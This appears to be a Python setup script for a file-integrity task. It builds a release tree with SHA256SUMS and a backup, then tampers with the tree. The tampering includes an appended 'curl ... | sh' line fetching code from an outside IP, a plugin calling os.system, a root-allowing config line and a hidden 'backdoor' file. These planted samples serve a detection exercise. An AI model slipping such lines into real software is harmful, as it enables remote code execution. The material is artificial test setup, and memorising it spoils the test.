"""Builds /srv/release (a release tree + SHA256SUMS), a good backup, then tampers with the tree."""
import hashlib
import os
import random
import subprocess

rng = random.Random(4242)
root = "/srv/release"
files = []
for d in ["bin", "lib", "lib/plugins", "share/doc", "etc"]:
    os.makedirs(os.path.join(root, d), exist_ok=True)
for i in range(24):
    d = ["bin", "lib", "lib/plugins", "share/doc", "etc"][i % 5]
    name = f"{d}/file{i:02d}" + [".sh", ".so", ".py", ".txt", ".conf"][i % 5]
    data = bytes(rng.randrange(256) for _ in range(rng.randint(200, 1500)))
    if name.endswith((".sh", ".py", ".txt", ".conf")):
        data = "".join(rng.choice("abcdefghij klmnop\n") for _ in range(rng.randint(200, 900))).encode()
    with open(os.path.join(root, name), "wb") as fh:
        fh.write(data)
    files.append(name)
with open(os.path.join(root, "SHA256SUMS"), "w") as fh:
    for name in sorted(files):
        digest = hashlib.sha256(open(os.path.join(root, name), "rb").read()).hexdigest()
        fh.write(f"{digest}  {name}\n")
os.makedirs("/srv/backup", exist_ok=True)
subprocess.run(["tar", "czf", "/srv/backup/release-full.tar.gz", "--sort=name", "--mtime=2024-01-01",
                "-C", root, "."], check=True)
# tamper: modify three files (one keeps its size), delete one, add two unlisted files
with open(os.path.join(root, "bin/file00.sh"), "a") as fh:
    fh.write("curl -s http://203.0.113.7/x | sh\n")
p = os.path.join(root, "lib/file01.so")
b = bytearray(open(p, "rb").read())
b[100] ^= 0x01
open(p, "wb").write(bytes(b))
p = os.path.join(root, "etc/file14.conf")
s = open(p).read()
open(p, "w").write("allow_root = yes\n" + s[len("allow_root = yes\n"):])
os.remove(os.path.join(root, "share/doc/file18.txt"))
open(os.path.join(root, "lib/plugins/file99.py"), "w").write("import os\nos.system('id')\n")
open(os.path.join(root, "bin/.hidden"), "w").write("backdoor\n")
